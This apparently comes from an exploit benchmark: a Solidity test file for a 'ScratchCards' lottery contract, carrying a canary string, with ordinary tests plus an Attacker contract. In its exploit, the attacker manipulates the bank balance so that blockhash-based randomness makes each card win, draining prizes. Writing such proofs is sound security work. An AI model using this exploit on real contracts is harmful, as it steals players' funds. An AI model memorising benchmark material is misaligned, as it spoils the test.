// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./ScratchCards.sol";

// assay-canary-0fdc986c-9ace-41f5-962a-614475c19ae8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function roll(uint256 number) external;
}

contract Usd is ERC20("Dollar", "USD") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_000;

    Usd public usd;
    ScratchCards private club;
    Attacker private mallory;

    function setUp() public {
        vm.roll(START);
        usd = new Usd();
        club = new ScratchCards(usd, 10e18);
        usd.mint(address(club), 900e18);
        usd.mint(ANA, 1_000e18);
        usd.mint(BEN, 1_000e18);
        vm.prank(BEN);
        usd.approve(address(club), 1_000e18);
        vm.startPrank(ANA);
        usd.approve(address(club), 1_000e18);
        club.buy();
        club.buy();
        vm.stopPrank();
        mallory = new Attacker(club, usd);
        usd.mint(address(mallory), 51e18);
    }

    function test_Regular() public {
        require(club.unscratched() == 2 && club.bank() == 920e18 && club.prize() == 100e18, "two sold");
        (address member, uint64 soldAt) = club.cards(2);
        require(member == ANA && soldAt == START, "the second");
        vm.prank(BEN);
        uint256 id = club.buy();
        require(id == 3 && club.lastCard() == 3 && usd.balanceOf(BEN) == 990e18, "a third");
        vm.roll(START + 5);
        vm.prank(ANA);
        club.scratch(1);
        vm.prank(BEN);
        club.scratch(3);
        (member, ) = club.cards(3);
        require(member == address(0) && club.unscratched() == 1, "one left");
        require(usd.balanceOf(ANA) + usd.balanceOf(BEN) + club.bank() == 2_900e18, "in the club");
        vm.roll(START + 251);
        club.expire(2);
        require(club.unscratched() == 0, "none left");
        club.take(address(0x500F), 500e18);
        require(usd.balanceOf(address(0x500F)) == 500e18, "roof");
        club.transferOwnership(ANA);
        vm.prank(ANA);
        club.renounceOwnership();
    }

    function test_RefusesSales() public {
        vm.expectRevert("no price");
        new ScratchCards(usd, 0);
        vm.startPrank(BEN);
        for (uint256 i = 0; i < 8; i++) club.buy();
        vm.expectRevert("sold out for now");
        club.buy();
        vm.stopPrank();
    }

    function test_RefusesCards() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ScratchCards.NotYet.selector, 1));
        club.scratch(1);
        vm.roll(START + 1);
        club.scratch(2);
        vm.roll(START + 251);
        vm.expectRevert("too old");
        club.scratch(1);
        vm.stopPrank();
        vm.roll(START + 250);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ScratchCards.NotYours.selector, 1));
        club.scratch(1);
    }

    function test_RefusesExpiries() public {
        vm.roll(START + 250);
        vm.expectRevert(abi.encodeWithSelector(ScratchCards.NotYet.selector, 1));
        club.expire(1);
        vm.expectRevert("no card");
        club.expire(3);
    }

    function test_RefusesTakings() public {
        club.take(BEN, 720e18);
        vm.expectRevert("leave the prizes");
        club.take(BEN, 1);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        club.take(BEN, 0);
    }

    function exploit() public {
        mallory.buy();
        vm.roll(START + 1);
        mallory.scratch();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 500e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ScratchCards private club;
    IERC20 private usd;
    uint256 private first;

    constructor(ScratchCards club_, IERC20 usd_) {
        (club, usd) = (club_, usd_);
        usd.approve(address(club), type(uint256).max);
    }

    function buy() external {
        first = club.buy();
        for (uint256 i = 1; i < 5; i++) club.buy();
    }

    // adds to the bank what makes the next card win
    function scratch() external {
        bytes32 hash = blockhash(block.number - 1);
        for (uint256 id = first; id < first + 5; id++) {
            uint256 bank = club.bank();
            uint256 more = 0;
            while (uint256(keccak256(abi.encode(hash, id, bank + more))) % 20 != 0) more++;
            usd.transfer(address(club), more);
            club.scratch(id);
        }
    }
}
